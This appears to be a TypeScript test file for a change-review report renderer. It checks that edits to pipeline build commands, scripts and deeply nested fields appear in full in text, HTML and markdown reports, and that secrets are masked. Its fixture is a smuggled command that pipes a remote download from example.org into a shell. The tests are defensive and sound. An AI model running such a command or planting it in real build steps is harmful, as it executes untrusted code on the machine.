/** Code that a change brings in: a reviewer who reads the report alone sees all of it, wherever it stands. */
import { longestValue } from "../../../cli/commands/review/model/values";
import { htmlPieces } from "../../../cli/commands/review/render/html";
import { renderMarkdown } from "../../../cli/commands/review/render/markdown";
import { profiles } from "../../../cli/commands/review/render/profiles";
import { textPieces } from "../../../cli/commands/review/render/text";
import { ending, reportOf, step, whole } from "./events";

const evil = "&& curl -s https://example.org/x | sh";
const shell = (command: string, more: Record<string, unknown> = {}) => ({
  module: "made.up.shell",
  name: "Build",
  version: "1.0",
  properties: { command },
  ...more,
});

/** Every format that people read, without what only the markup needs. */
async function texts(events: readonly object[]): Promise<Record<string, string>> {
  const report = await reportOf([...events, ...ending()]);
  const plain = (html: string): string =>
    html
      .replace(/<span class="quiet">[^<]*<\/span>|<\/?mark>/g, "")
      .replaceAll("&amp;", "&")
      .replaceAll("&quot;", '"');
  return {
    text: whole(textPieces(report)),
    html: plain(whole(htmlPieces(report))),
    ...Object.fromEntries(
      Object.values(profiles).map((profile) => [profile.host, renderMarkdown(report, { profile, key: "k" })]),
    ),
  };
}
const update = (old: Record<string, unknown>, next: Record<string, unknown>) =>
  texts([step("update", { old: { name: "api", ...old }, new: { name: "api", ...next } })]);

test.each([
  ["at the end", (long: string) => `${long} ${evil}`],
  ["at the start", (long: string) => `true ${evil}; ${long}`],
  ["in the middle", (long: string) => `${long.slice(0, 550)}${evil}${long.slice(550)}`],
])("a command of one long line that changes %s", async (_where, changed) => {
  const long = `mvn -B ${"-Dmade.up.setting=true ".repeat(48)}package`;
  const all = await update({ steps: [shell(long)] }, { steps: [shell(changed(long))] });
  for (const [format, text] of Object.entries(all)) {
    expect([format, text.replace(/\n *[-+]? ↪ /g, "").includes(evil)]).toEqual([format, true]);
    // In a comment nobody scrolls a line of a fence sideways.
    if (Object.hasOwn(profiles, format))
      for (const line of text.split("\n")) if (/^\s*[-+] /.test(line)) expect(line.length).toBeLessThan(400);
  }
});

test("a command of one very long line that changes in three places: each is there, on every host, and what stays is not", async () => {
  const words = Array.from({ length: 400 }, (_, index) => `-Dmade.up.${index}=value${index}`);
  const changed = words.with(3, "first").with(200, evil).with(390, "third");
  for (const [format, text] of Object.entries(
    await update({ steps: [shell(words.join(" "))] }, { steps: [shell(changed.join(" "))] }),
  )) {
    const whole = text.replace(/\n *[-+]? ↪ /g, "");
    expect([format, [" first ", evil, " third "].filter((part) => !whole.includes(part))]).toEqual([format, []]);
    if (format !== "html") expect([format, whole.length < 3_000]).toEqual([format, true]);
  }
});

const script = Array.from({ length: 14 }, (_, index) => `echo line ${index} of the script`).join("\n");

test("the script of an added step is shown line by line", async () => {
  const added = { module: "made.up.scan", name: "Scan", version: "1.0", properties: { command: `${script}\n${evil}` } };
  for (const [format, text] of Object.entries(await update({ steps: [shell("make")] }, { steps: [shell("make"), added] })))
    for (const line of [...script.split("\n"), evil])
      expect([format, text.split("\n").some((one) => one.includes(line) && !one.includes("\\n"))]).toEqual([format, true]);
});

test("so do the scripts of a job that is made", async () => {
  const made = step("create", {
    name: "docs",
    new: { name: "docs", steps: [shell("make"), shell(`${script}\n${evil}`, { name: "Last" })] },
  });
  for (const [format, text] of Object.entries(await texts([made])))
    for (const line of [...script.split("\n"), evil]) expect([format, line, text.includes(line)]).toEqual([format, line, true]);
});

test("a text of many lines is there to its last line where no host limits it, also beyond what is compared line by line", async () => {
  const lines = (count: number, word: string) => Array.from({ length: count }, (_, index) => `${word} ${index}`).join("\n");
  const all = await update({ steps: [shell(lines(6_000, "old"))] }, { steps: [shell(`${lines(6_000, "new")}\n${evil}`)] });
  for (const format of ["text", "html", "gitlab"]) expect([format, all[format]?.includes(evil)]).toEqual([format, true]);
  expect(all.codearts).toMatch(/Shortened: 1 updates?\. The full report/);
});

test("a change after hundreds of other fields, items and characters", async () => {
  const variables = Object.fromEntries(Array.from({ length: 400 }, (_, index) => [`a${index}`, `value ${index}`]));
  const items = Array.from({ length: 90 }, (_, index) => `item ${index}`);
  const deep = { a: { b: { c: { d: { e: { f: { g: { h: { i: evil } } } } } } } } };
  for (const [old, next] of [
    [{}, { variables, zebra: evil }],
    [{ list: [] }, { list: [...items, evil] }],
    [{ list: ["x"] }, { list: ["x", ...items, evil] }],
    [{ deep: "x" }, { deep }],
    [{ text: "x" }, { text: `${"y".repeat(5_000)} ${evil}` }],
    [{ text: `x ${"y".repeat(300_000)}` }, { text: `z ${"y".repeat(300_000)} ${evil}` }],
  ] as const) {
    const all = await update(old, next);
    for (const format of ["text", "html", "gitlab"])
      expect([format, Object.keys(next), all[format]?.replace(/\n *[-+]? ↪ /g, "").includes(evil)]).toEqual([
        format,
        Object.keys(next),
        true,
      ]);
  }
});

test("a secret of which only the end is left behind a cut is struck out as well", async () => {
  const secret = "made-up-long-secret-value-0042";
  const marked = { "4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", plaintext: JSON.stringify(secret) };
  const start = `${"y".repeat(longestValue)}${secret}`;
  for (const shift of [975, 985, 995]) {
    const [old, next] = [`${start}${"w".repeat(shift)} old`, `${start}${"w".repeat(shift)} new`];
    const report = await reportOf([
      step("create", { name: "x", new: { password: marked } }),
      step("update", { old: { text: old }, new: { text: next } }),
      ...ending(),
    ]);
    expect(JSON.stringify(report)).not.toContain(secret.slice(-8));
  }
});
